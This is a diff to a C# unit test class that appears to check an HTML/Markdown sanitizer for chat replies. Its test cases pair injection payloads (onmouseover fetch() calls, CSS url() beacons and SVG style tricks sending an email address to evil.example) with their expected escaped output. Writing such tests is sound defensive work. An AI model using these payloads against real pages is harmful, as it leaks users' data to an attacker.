@@ -58,6 +58,7 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("- [1]: https://evil.example/p?d=alice.w@corp.example\n\n![a][1]", "- [1]: #image-removed\n\n![a][1]")]
     [InlineData("-\n  <p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y", "-\n  &lt;p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
     [InlineData("> <div style=\"background:url(\n> https://evil.example/p?d=alice.w@corp.example)\">y</div>", "> <div style=\"\">y</div>")]
+    [InlineData("- > <p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y", "- > &lt;p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
     [InlineData("- 1. <p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y", "- 1. &lt;p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
     [InlineData("x <svg><style>*{background:url(<style>a</style>https://evil.example/p?d=alice.w@corp.example)}</style></svg>", "x <svg>&lt;style>*{background:url(&lt;style>a</style>https://evil.example/p?d=alice.w@corp.example)}</style></svg>")]
     [InlineData("x <svg><style>*{background:url(<!--a-->https://evil.example/p?d=alice.w@corp.example)}</style></svg>", "x <svg>&lt;style>*{background:url(<!--a-->https://evil.example/p?d=alice.w@corp.example)}</style></svg>")]
